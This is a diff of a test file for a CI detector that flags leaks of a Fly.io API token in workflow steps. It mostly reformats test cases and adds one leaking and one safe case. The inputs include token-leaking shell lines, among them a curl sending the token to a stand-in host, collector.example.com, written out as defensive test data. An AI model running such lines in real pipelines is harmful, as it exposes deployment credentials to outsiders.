@@ -35,8 +35,16 @@ describe('token-leak fires', () => {
       'echo "T=${{ secrets.FLY_API_TOKEN }}" >> $GITHUB_ENV',
       /GITHUB_ENV/
     ],
-    ['printf to $GITHUB_OUTPUT', "printf 'token=%s\\n' \"$FLY_API_TOKEN\" >> $GITHUB_OUTPUT", /GITHUB_OUTPUT/],
-    ['echo to a file', 'echo "$FLY_API_TOKEN" > out/token.txt', /file `out\/token.txt`.*uploads artifacts/],
+    [
+      'printf to $GITHUB_OUTPUT',
+      'printf \'token=%s\\n\' "$FLY_API_TOKEN" >> $GITHUB_OUTPUT',
+      /GITHUB_OUTPUT/
+    ],
+    [
+      'echo to a file',
+      'echo "$FLY_API_TOKEN" > out/token.txt',
+      /file `out\/token.txt`.*uploads artifacts/
+    ],
     ['echo to the log', 'echo "token is $FLY_API_TOKEN"', /prints the Fly token to the log/],
     ['a base64 copy in the log', 'echo -n "$FLY_API_TOKEN" | base64', /transformed copy/],
     ['tee into a file', 'echo "$FLY_API_TOKEN" | tee token.txt', /file `token.txt`/],
@@ -62,7 +70,12 @@ describe('token-leak fires', () => {
       'curl -H "Authorization: Bearer $FLY_API_TOKEN" https://collector.example.com/x',
       /collector\.example\.com/
     ],
-    ['set -x', 'set -x\nflyctl deploy -t "$FLY_API_TOKEN"', /set -x/]
+    ['set -x', 'set -x\nflyctl deploy -t "$FLY_API_TOKEN"', /set -x/],
+    [
+      'a re-encoded copy captured by $( ) and written out',
+      'echo "b64=$(echo -n "$FLY_API_TOKEN" | base64)" >> $GITHUB_OUTPUT',
+      /GITHUB_OUTPUT/
+    ]
   ];
 
   test.each(cases)('%s', (_name, script, what) => {
@@ -80,7 +93,10 @@ describe('token-leak fires', () => {
   });
 
   test('a step env variable named anything that holds the token', () => {
-    const text = runStep('echo "$DEPLOY_CREDS" > creds.txt', 'DEPLOY_CREDS: ${{ secrets.FLY_API_TOKEN }}');
+    const text = runStep(
+      'echo "$DEPLOY_CREDS" > creds.txt',
+      'DEPLOY_CREDS: ${{ secrets.FLY_API_TOKEN }}'
+    );
     expect(leaks(text)).toHaveLength(1);
   });
 
@@ -101,15 +117,28 @@ jobs:
 describe('token-leak stays silent', () => {
   const safe: Array<[string, string]> = [
     ['the token in env only', 'flyctl deploy --remote-only'],
-    ['piped into a consumer', 'echo "$FLY_API_TOKEN" | docker login registry.fly.io -u x --password-stdin'],
-    ['an existence check', '[ -n "$FLY_API_TOKEN" ] || { echo "::error::FLY_API_TOKEN is not set"; exit 1; }'],
+    [
+      'piped into a consumer',
+      'echo "$FLY_API_TOKEN" | docker login registry.fly.io -u x --password-stdin'
+    ],
+    [
+      'an existence check',
+      '[ -n "$FLY_API_TOKEN" ] || { echo "::error::FLY_API_TOKEN is not set"; exit 1; }'
+    ],
     ['a length', 'echo "${#FLY_API_TOKEN} characters"'],
     ['a mask registration', 'echo "::add-mask::$FLY_API_TOKEN"'],
-    ['curl to Fly’s API', 'curl -H "Authorization: Bearer $FLY_API_TOKEN" https://api.machines.dev/v1/apps'],
+    [
+      'curl to Fly’s API',
+      'curl -H "Authorization: Bearer $FLY_API_TOKEN" https://api.machines.dev/v1/apps'
+    ],
     ['other variables to $GITHUB_ENV', 'echo "APP=web" >> $GITHUB_ENV'],
     ['redirects to /dev/null', 'echo "$FLY_API_TOKEN" > /dev/null'],
     ['set -x turned off before', 'set -x\nset +x\nflyctl deploy -t "$FLY_API_TOKEN"'],
-    ['a non-Fly secret', 'echo "$OTHER" > file.txt']
+    ['a non-Fly secret', 'echo "$OTHER" > file.txt'],
+    [
+      'a re-encoded copy handed to a consumer',
+      'B=$(printf %s "$FLY_API_TOKEN" | base64)\ncurl -H "X-Token: $B" https://api.fly.io/x'
+    ]
   ];
 
   test.each(safe)('%s', (_name, script) => {
